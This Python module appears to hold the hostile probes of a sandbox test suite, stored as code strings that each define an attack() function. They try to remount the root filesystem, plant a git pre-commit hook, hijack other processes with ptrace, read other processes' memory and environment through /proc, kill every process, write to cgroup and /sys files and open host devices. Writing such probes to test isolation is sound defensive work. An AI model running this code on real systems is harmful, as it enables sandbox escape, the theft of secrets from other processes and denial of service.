"""The code of the longer hostile tools in ``attack_table`` (each defines ``attack()``)."""

LOOK_FOR_PRIVILEGES = r'''
import os
WANTED = ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp")
def attack():
    with open("/proc/self/status") as handle:
        status = dict(line.rstrip("\n").split(":\t", 1) for line in handle if line.split(":")[0] in WANTED)
    status["ids"] = [os.getuid(), os.geteuid(), os.getgid(), os.getegid()]
    return status
'''

# Issue 16, item 4. The unshare at the end would give the tool a namespace it holds capabilities in.
UNDO_THE_MOUNTS = r'''
import ctypes, os
MS_REMOUNT, MS_BIND, MNT_DETACH = 32, 4096, 2
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x20000
def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    done = []
    for target in ("/tmp", "/dev/shm", "/dev", "/"):
        if libc.umount2(target.encode(), MNT_DETACH) == 0:
            done.append(f"unmounted {target}")
    for flags in (MS_REMOUNT | MS_BIND, MS_REMOUNT):
        if libc.mount(None, b"/", None, flags, None) == 0:
            done.append(f"remounted / read-write (flags {flags})")
    for path in ("$workspace/.git/hooks/pre-commit", "$outside_dir/pwned"):
        try:
            with open(path, "w") as handle:
                handle.write("#!/bin/sh\necho pwned\n")
            done.append(f"wrote {path}")
        except OSError:
            pass
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
        done.append("made a user namespace of its own")
    return done
'''

# Issue 16, item 5. Attach with ptrace to each process in sight and make it execve a program that
# SIGSTOPs every later call (x86_64 registers); also try to open its memory for writing.
TAKE_OVER = r'''
import ctypes, os, struct
PTRACE_PEEKTEXT, PTRACE_POKETEXT, PTRACE_GETREGS, PTRACE_SETREGS, PTRACE_ATTACH, PTRACE_DETACH = 1, 4, 12, 13, 16, 17
REGS = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs"
LURKER = """
import os, signal, time
me = os.getpid()
while True:
    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != me]:
        try:
            with open(f"/proc/{pid}/stat") as handle:
                parent = int(handle.read().rsplit(")", 1)[1].split()[1])
            with open(f"/proc/{parent}/cmdline", "rb") as handle:
                if b"--" + b"serve" in handle.read():
                    os.kill(int(pid), signal.SIGSTOP)
        except (OSError, ValueError, IndexError):
            pass
    time.sleep(0.002)
"""


class Regs(ctypes.Structure):
    _fields_ = [(name, ctypes.c_ulonglong) for name in REGS.split()]


libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


def poke(pid, address, data):
    for at in range(0, len(data), 8):
        libc.ptrace(PTRACE_POKETEXT, pid, address + at, int.from_bytes(data[at:at + 8].ljust(8, b"\0"), "little"))


def hijack(pid):
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
        return False
    os.waitpid(pid, 0x40000000)  # __WALL: it is not our child
    regs = Regs()
    libc.ptrace(PTRACE_GETREGS, pid, None, ctypes.byref(regs))
    strings, pointers, base = b"", [], (regs.rsp - 16384) & ~15
    for arg in (b"/usr/bin/python3", b"-c", LURKER.encode()):
        pointers.append(base + len(strings))
        strings += arg + b"\0"
    vector = base + ((len(strings) + 15) & ~15)
    poke(pid, base, strings)
    poke(pid, vector, struct.pack("<4Q", *pointers, 0))
    code = libc.ptrace(PTRACE_PEEKTEXT, pid, regs.rip, None) & 0xFFFFFFFFFFFFFFFF
    libc.ptrace(PTRACE_POKETEXT, pid, regs.rip, (code & ~0xFFFF) | 0x050F)  # a syscall instruction here
    regs.rax, regs.orig_rax, regs.rdi, regs.rsi, regs.rdx = 59, 2 ** 64 - 1, pointers[0], vector, 0  # execve
    libc.ptrace(PTRACE_SETREGS, pid, None, ctypes.byref(regs))
    libc.ptrace(PTRACE_DETACH, pid, None, None)
    return True


def attack():
    done = []
    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
        try:
            open(f"/proc/{pid}/mem", "r+b").close()
            done.append(f"opened the memory of {pid}")
        except OSError:
            pass
        if hijack(pid):
            done.append(f"replaced {pid}")
    return done
'''

READ_PROC_FILES = r'''
import os
def attack():
    got = []
    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
        for name in ("environ", "mem", "maps", "auxv", "syscall", "stack", "root", "cwd", "fd"):
            path = f"/proc/{pid}/{name}"
            try:
                if name in ("root", "cwd"):
                    os.listdir(path)
                elif name == "fd":  # listing the numbers is allowed where we own the entry; opening is what counts
                    for fd in os.listdir(path):
                        try:
                            open(f"{path}/{fd}", "rb").close()
                            got.append(f"{path}/{fd}")
                        except OSError:
                            pass
                    continue
                else:
                    with open(path, "rb") as handle:
                        if name != "mem":  # opening mem is the check; reading offset 0 fails anyway
                            handle.read(1)
                got.append(path)
            except OSError:
                pass
    return got
'''

KILL_ALL_BUT_THE_WORKER = r'''
import os, signal, time
def attack():
    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        if pid not in (os.getpid(), os.getppid()):
            for sig in (signal.SIGKILL, signal.SIGSTOP):
                try:
                    os.kill(pid, sig)
                except OSError:
                    pass
    time.sleep(0.2)
    return "sent"
'''

# Issue 16, item 6: each of these outlived its call (the ordinary call after each attack looks).
LEAVE_IPC = r'''
import ctypes, os
IPC_PRIVATE, IPC_CREAT = 0, 0o1000
def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    left = []
    with open("/dev/shm/latm-left", "w") as handle:
        handle.write("left behind")
    left.append("a file in /dev/shm")
    if libc.mq_open(b"/latm-left", os.O_CREAT | os.O_RDWR, 0o600, None) >= 0:
        left.append("a POSIX message queue")
    for name, args in (("shmget", (IPC_PRIVATE, 4096, IPC_CREAT | 0o600)),
                       ("semget", (IPC_PRIVATE, 1, IPC_CREAT | 0o600)),
                       ("msgget", (IPC_PRIVATE, IPC_CREAT | 0o600))):
        if getattr(libc, name)(*args) >= 0:
            left.append(f"SysV {name[:3]}")
    return left
'''

LEAVE_A_KEY = r'''
import ctypes, platform
ADD_KEY = {"x86_64": 248, "aarch64": 217}[platform.machine()]
KEY_SPEC_USER_KEYRING = -4
def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    key = libc.syscall(ADD_KEY, b"user", b"latm-left", b"left behind", 11, KEY_SPEC_USER_KEYRING)
    if key < 0:
        raise OSError(ctypes.get_errno(), "add_key")
    return key
'''

LEAVE_A_SOCKET = r'''
import os, socket, time
def attack():
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind("\0latm-left")
    listener.listen(1)
    if os.fork() == 0:
        os.setsid()
        time.sleep(60)
        os._exit(0)
    return "listening"
'''

CONNECT_UNIX = r'''
import socket
def attack():
    client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    client.connect("$unix_socket")
    client.sendall(b"pwned")
    return "connected"
'''

READ_OWN_FILE = r'''
def attack():
    with open("$own_file") as handle:
        return handle.read()
'''

RAISE_THE_WORKERS_OOM_SCORE = r'''
import os
def attack():
    with open(f"/proc/{os.getppid()}/oom_score_adj", "w") as handle:
        handle.write("1000")
    return "raised"
'''

WRITE_TO_SYS = r'''
import os
def attack():
    written = []
    targets = ["/sys/kernel/mm/transparent_hugepage/enabled", "/sys/fs/cgroup/cgroup.procs"]
    for root, dirs, files in os.walk("/sys/fs/cgroup"):
        targets += [os.path.join(root, name) for name in files if name in ("cgroup.procs", "tasks", "memory.limit_in_bytes")]
        if len(targets) > 200:
            break
    for path in targets:
        try:
            with open(path, "w") as handle:
                handle.write(str(os.getpid()))
            written.append(path)
        except OSError:
            pass
    try:
        os.mkdir("/sys/fs/cgroup/latm-escape")
        written.append("made a cgroup")
    except OSError:
        pass
    return written
'''

OPEN_HOST_DEVICES = r'''
import os
def attack():
    opened = []
    for name in sorted(os.listdir("/dev")):
        path = f"/dev/{name}"
        if name in ("null", "zero", "full", "random", "urandom", "stdin", "stdout", "stderr", "fd", "shm", "mqueue",
                    "pts", "ptmx", "tty"):
            continue  # what a sandbox may offer (Docker's also has a pts instance of its own and a tty)
        for mode in (os.O_RDONLY, os.O_WRONLY):
            try:
                os.close(os.open(path, mode | os.O_NONBLOCK | os.O_NOCTTY))
                opened.append(path)
            except OSError:
                pass
    return opened
'''
